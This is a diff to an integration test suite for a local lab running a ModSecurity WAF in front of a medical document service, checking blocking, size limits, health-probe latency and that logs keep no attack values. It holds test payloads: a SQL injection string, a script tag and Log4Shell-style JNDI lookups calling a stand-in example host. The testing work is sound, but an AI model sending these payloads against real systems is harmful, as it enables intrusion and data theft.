@@ -5,22 +5,24 @@
  * ModSecurity + CRS (EXG_WAF_1, EXG_SEC_6), Prometheus with the blackbox exporter. Needs root.
  * Traffic stays on the lab bridge and in the namespaces this test creates.
  */
+import { randomBytes } from 'node:crypto';
 import { chmodSync, mkdtempSync } from 'node:fs';
-import { readdir, readFile } from 'node:fs/promises';
+import { readdir, readFile, rm, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { setTimeout as sleep } from 'node:timers/promises';
 import { execa } from 'execa';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { MONITORING_PATHS } from '../services/fromTopology/paths.ts';
 import { MONITORING_FILES } from '../services/monitoring/render.ts';
-import { wafRuntimePaths } from '../services/waf/render.ts';
+import { MAX_DOCUMENT_BYTES } from '../model/documents.ts';
+import { wafLogPaths } from '../services/waf/logging.ts';
 import { labComponents } from './components/all.ts';
 import { labBackup, labBackupInfo } from './components/pgbackrest.ts';
 import { pgDataDir } from './components/postgres.ts';
 import { wafDirs } from './components/waf.ts';
 import { edgeSites, monitoringGuest, prometheusUrl } from './edgeEndpoints.ts';
 import { etcdMembers, haproxyEndpoints, patroniNodes } from './endpoints.ts';
-import { guestPath, labGuests, resolvedGuestFiles } from './guests.ts';
+import { guestPath, labGuests, resolvedGuestFiles, WAF_SERVER_NAME } from './guests.ts';
 import { labDown, labStatus, labUp } from './lab.ts';
 import { listNetns } from './netns.ts';
 import { appClient, etcdHealth, etcdMemberCount, inRecoveryVia, type PatroniMember, patroniClusterAny } from './probes.ts';
@@ -189,13 +191,109 @@ describe.skipIf(!isRoot)('local lab (root, real services)', () => {
     expect(xss.status).toBe(403);
     expect((await wafRequest(plan, `${url}/admin/config`)).status).toBe(403);
     expect((await wafRequest(plan, `${url}/documents`, { method: 'DELETE' })).status).toBe(403);
-    const audit = await readFile(wafRuntimePaths({ runDir: wafDirs({ plan }, edges[0]!).runDir, name: edges[0]!.guest.name }).auditLog, 'utf8');
-    const entry = audit
-      .split('\n')
-      .filter(Boolean)
-      .map((l) => JSON.parse(l) as { transaction?: { unique_id?: string } })
-      .find((e) => e.transaction?.unique_id === cid);
-    expect(entry, `no audit entry with correlation id ${cid}`).toBeDefined();
+    // A SQL injection in the free-text field the contract leaves to the CRS: blocked by 942xxx.
+    const cid2 = `lab-test-body-${Date.now()}`;
+    const sqliBody = await wafRequest(plan, `${url}/documents`, {
+      method: 'POST',
+      headers: { 'X-Correlation-ID': cid2 },
+      body: { title: "x' UNION SELECT password FROM users --", patientId: 'p-1', category: 'cr', contentBase64: 'aGVsbG8=' },
+    });
+    expect(sqliBody.status).toBe(403);
+    // The SIEM line (the log relay's, issue 11): rule ids and the correlation id, never a value.
+    const siem = wafLogPaths({ runDir: wafDirs({ plan }, edges[0]!).runDir }).siemLog;
+    let entry: { correlation_id?: string; rules?: Array<{ id: string }> } | undefined;
+    for (let i = 0; i < 50 && !entry; i++) {
+      const text = await readFile(siem, 'utf8').catch(() => '');
+      entry = text
+        .split('\n')
+        .filter(Boolean)
+        .map((l) => JSON.parse(l) as { correlation_id?: string; rules?: Array<{ id: string }> })
+        .find((e) => e.correlation_id === cid2);
+      if (!entry) await sleep(200);
+    }
+    expect(entry, `no SIEM line with correlation id ${cid2}`).toBeDefined();
+    expect(entry?.rules?.some((r) => String(r.id).startsWith('942'))).toBe(true);
+  });
+
+  it('issue 11: a document of the maximum size round-trips through both DCs; one byte more gets 413 in JSON', async () => {
+    const doc = randomBytes(MAX_DOCUMENT_BYTES);
+    for (const [from, to] of [
+      [0, 1],
+      [1, 0],
+    ] as const) {
+      const post = await wafRequest(plan, `${edges[from]!.waf.url}/documents`, {
+        method: 'POST',
+        body: { title: `Compte rendu d'imagerie (taille maximale) ${from}`, patientId: 'p-max', category: 'imagerie', contentBase64: doc.toString('base64') },
+        timeoutMs: 120_000,
+      });
+      expect(post.status, post.body.slice(0, 300)).toBe(201);
+      const { id } = JSON.parse(post.body) as { id: string };
+      const get = await wafRequest(plan, `${edges[to]!.waf.url}/documents/${id}`, { timeoutMs: 120_000 });
+      expect(get.status).toBe(200);
+      expect(Buffer.from((JSON.parse(get.body) as { contentBase64: string }).contentBase64, 'base64').equals(doc)).toBe(true);
+    }
+    const over = await wafRequest(plan, `${edges[0]!.waf.url}/documents`, {
+      method: 'POST',
+      body: { title: 'Trop grand', patientId: 'p-max', category: 'imagerie', contentBase64: randomBytes(MAX_DOCUMENT_BYTES + 3).toString('base64') },
+      timeoutMs: 120_000,
+    });
+    expect(over.status).toBe(413);
+    expect(over.headers['content-type']).toMatch(/json/);
+    expect(JSON.parse(over.body)).toHaveProperty('error');
+  });
+
+  // On this 2-core machine the upload (curl's TLS, nginx's inspection, the service's parse and the
+  // synchronous insert) saturates both cores: the standalone WAF test holds every probe under
+  // 100 ms (waf.int.test.ts); in the whole lab the median must stay under 100 ms and no probe may
+  // wait for the inspection to end (docs/waf.md, measured figures).
+  it('issue 11: while a maximum-size upload is inspected, /health on the same WAF answers (median < 100 ms, never blocked)', async () => {
+    const url = edges[0]!.waf.url;
+    // The uploader is curl in its own process (TLS and JSON of 27 MB in this process would add
+    // its own delay to the probes), the probes are this process's.
+    const file = join(stateDir, 'upload.json');
+    await writeFile(file, JSON.stringify({ title: 'Upload long', patientId: 'p-max', category: 'imagerie', contentBase64: randomBytes(MAX_DOCUMENT_BYTES).toString('base64') }));
+    const u = new URL(url);
+    const ca = join(stateDir, 'pki', 'ca.crt');
+    let uploading = true;
+    const upload = execa('curl', ['-sS', '-o', '/dev/null', '-w', '%{http_code}', '--cacert', ca, '--resolve', `${WAF_SERVER_NAME}:${u.port || 443}:${u.hostname}`, '-H', 'content-type: application/json', '--data-binary', `@${file}`, `https://${WAF_SERVER_NAME}:${u.port || 443}/documents`], { reject: false, timeout: 120_000 }).finally(() => {
+      uploading = false;
+    });
+    await sleep(300);
+    const latencies: number[] = [];
+    while (uploading && latencies.length < 40) {
+      const t = performance.now();
+      const r = await wafRequest(plan, `${url}/health`, { timeoutMs: 5000 });
+      latencies.push(performance.now() - t);
+      expect(r.status).toBe(200);
+      await sleep(50);
+    }
+    expect((await upload).stdout).toBe('201');
+    await rm(file, { force: true });
+    expect(latencies.length).toBeGreaterThan(0);
+    const sorted = [...latencies].sort((a, b) => a - b);
+    const shown = `latencies (ms): ${latencies.map((x) => x.toFixed(0)).join(' ')}`;
+    log(`/health during a ${MAX_DOCUMENT_BYTES} B upload: ${shown}`);
+    expect(sorted[Math.floor((sorted.length - 1) / 2)]!, shown).toBeLessThan(100);
+    expect(sorted[sorted.length - 1]!, shown).toBeLessThan(2000);
+  });
+
+  it('issue 11, HDS/GDPR: a marker sent in fields that trigger rules appears in no file the lab writes', async () => {
+    const marker = `hdsmarker${randomBytes(8).toString('hex')}`;
+    const url = edges[0]!.waf.url;
+    const attack = `${marker}' UNION SELECT password FROM users --`;
+    const probes = [
+      wafRequest(plan, `${url}/health?q=${encodeURIComponent(attack)}`),
+      wafRequest(plan, `${url}/documents`, { method: 'POST', body: { title: `<script>${marker}</script>`, patientId: 'p-1', category: 'cr', contentBase64: 'aGVsbG8=' } }),
+      wafRequest(plan, `${url}/health`, { headers: { 'User-Agent': `\${jndi:ldap://${marker}.example/a}` } }),
+      wafRequest(plan, `${url}/health`, { headers: { 'X-Api-Version': `\${jndi:ldap://${marker}/x}` } }),
+      wafRequest(plan, `${url}/health`, { headers: { Cookie: `session=${encodeURIComponent(attack)}` } }),
+      wafRequest(plan, `${url}/${marker}/admin`),
+    ];
+    const statuses = (await Promise.all(probes)).map((r) => r.status);
+    expect(statuses.every((st) => st >= 400), `statuses ${statuses.join(' ')}`).toBe(true);
+    await sleep(1500); // the relay writes after the response
+    const r = await execa('grep', ['-rlF', '--binary-files=text', marker, stateDir], { reject: false });
+    expect(r.exitCode, `files holding the marker:\n${r.stdout}`).toBe(1);
   });
 
   it('EXG_DIS_1.5, EXG_MON_4: Prometheus has every target up, the user probes green, and the alert rules load (promtool)', async () => {
